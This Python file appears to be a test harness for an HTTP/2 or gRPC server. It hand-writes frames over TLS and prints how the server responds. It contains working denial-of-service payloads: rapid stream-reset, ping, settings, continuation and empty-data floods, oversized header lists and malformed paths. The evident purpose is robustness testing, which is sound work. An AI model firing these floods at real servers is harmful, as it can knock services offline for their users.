"""A hostile client that writes frames by hand over TLS: `hostile.py HOST PORT CERTIFICATES ATTACK`.

It prints what the server answered: frame by frame `TYPE STREAM CODE`, then `closed` or `open`.
Only the standard library is used.
"""

import socket
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A literal field, never indexed, without Huffman code (RFC 7541 §6.2.3)."""

    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest = len(data) - 127
        out = bytes([127])
        while rest >= 128:
            out += bytes([rest % 128 + 128])
            rest //= 128
        return out + bytes([rest]) + data

    return b"\x10" + text(name.encode()) + text(value if isinstance(value, bytes) else value.encode())


def head(path="/test.Echo/Unary", method="POST", content_type="application/grpc", extra=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "x"), ("te", "trailers")]
    if content_type:
        fields.append(("content-type", content_type))
    return b"".join(field(*pair) for pair in fields + list(extra))


def headers(stream, block, flags=4):
    return frame(1, flags, stream, block)


def message(payload, flag=0):
    return bytes([flag]) + struct.pack(">I", len(payload)) + payload


ATTACKS = {
    "bad_utf8_path": headers(1, head(path=b"/test.Echo/\xff\xfe")) + frame(0, 1, 1, message(b"")),
    "reset_flood": b"".join(headers(i, head()) + frame(3, 0, i, struct.pack(">I", 8)) for i in range(1, 1001, 2)),
    "ping_flood": frame(6, 0, 0, b"12345678") * 200,
    "settings_flood": frame(4) * 200,
    "continuation_flood": headers(1, head(), 0) + frame(9, 0, 1, field("x-a", "b")) * 40,
    "empty_data_flood": headers(1, head(path="/test.Echo/Never")) + frame(0, 0, 1) * 500,
    "header_list": headers(1, head(extra=[("x-long", "v" * 14_000)]), 1)
    + frame(9, 4, 1, field("x-long", "v" * 8_000)),
    "not_http2": b"GET / HTTP/1.1\r\n\r\n",
}


def main():
    host, port, directory, name = sys.argv[1:5]
    context = ssl.create_default_context(cafile=f"{directory}/ca.pem")
    context.set_alpn_protocols(["http/1.1"] if name == "no_alpn" else ["h2"])
    if name == "tls12":
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    raw = socket.create_connection((host, int(port)))
    raw.settimeout(10)
    try:
        tls = context.wrap_socket(raw, server_hostname="localhost")
    except (ssl.SSLError, ConnectionError) as error:
        print("handshake refused")
        return
    received = b""
    try:
        if name == "silent":
            pass
        elif name in ("not_http2", "no_alpn"):
            tls.sendall(ATTACKS["not_http2"])
        else:
            # A PING at the end: when its answer is here, every other answer is.
            tls.sendall(PREFACE + frame(4) + ATTACKS[name] + frame(6, 0, 0, b"the end!"))
    except (ssl.SSLError, ConnectionError):
        pass
    is_open = True
    while b"the end!" not in received:
        try:
            data = tls.recv(65536)
        except TimeoutError:
            break
        except (ssl.SSLError, ConnectionError):
            data = b""
        if not data:
            is_open = False
            break
        received += data
    report(received)
    print("open" if is_open else "closed")


def report(data):
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        kind, payload = data[3], data[9 : 9 + length]
        stream = int.from_bytes(data[5:9], "big") & 0x7FFFFFFF
        code = ""
        if kind == 3:
            code = int.from_bytes(payload[:4], "big")
        if kind == 7:
            code = int.from_bytes(payload[4:8], "big")
        if kind not in (4, 6, 8):
            print(NAMES.get(kind, kind), stream, code)
        data = data[9 + length :]


main()
